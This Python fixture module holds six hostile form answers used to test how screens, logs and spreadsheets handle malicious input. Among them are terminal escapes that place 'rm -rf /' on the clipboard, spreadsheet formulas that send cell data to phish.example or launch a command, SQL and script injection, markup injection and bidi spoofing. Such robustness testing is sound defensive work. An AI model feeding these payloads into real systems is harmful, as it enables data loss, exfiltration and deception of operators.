"""Answers of the kind that real public forms receive from people who mean harm."""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["HOSTILE", "HostileAnswer"]


@dataclass(frozen=True)
class HostileAnswer:
    """A name and a message that a careless screen, log or spreadsheet would obey."""

    name: str
    message: str


_ZALGO = "".join(letter + "\u0300\u0316\u0321\u0334\u0351\u0362" * 6 for letter in "URGENT")

HOSTILE: tuple[HostileAnswer, ...] = (
    HostileAnswer(
        "\x1b]0;owned\x07Mallory [/]",
        "\x1b[2J\x1b[HAll done, nothing to see.\x1b]52;c;cm0gLXJmIC8=\x07\r\n"
        "[@click=app.quit]click[/] [/b][red]",
    ),
    HostileAnswer(
        '=HYPERLINK("http://phish.example/?x="&A1,"Invoice")',
        f"\u202egnp.eciovni\u202c {_ZALGO} \u2066isolated\u2069 \u200b\u200dhidden\ufeff",
    ),
    HostileAnswer(
        "Robert'); DROP TABLE submissions;--",
        "<script>alert(1)</script> ${7*7} {{7*7}} %s %n \x9b31m C1 \x85 next line\u2028separator\u2029end",
    ),
    HostileAnswer(
        "+cmd|' /C calc'!A0",
        "line one\rSTATUS: resolved by admin\x08\x08\x08\x7f\nline two \x00 after the NUL",
    ),
    HostileAnswer(
        "\u2067סוף\u2069 \U000e0041\U000e0042",
        "[link=javascript:alert(1)]win[/link] [bold blink]prize[/bold blink] \\[/] [[/]]",
    ),
    HostileAnswer(
        "W" * 300,
        "https://xn--pypal-4ve.example@evil.example/%2e%2e/ " + "unbroken" * 400,
    ),
)
"""One is used for roughly every sixtieth submission, in turn."""
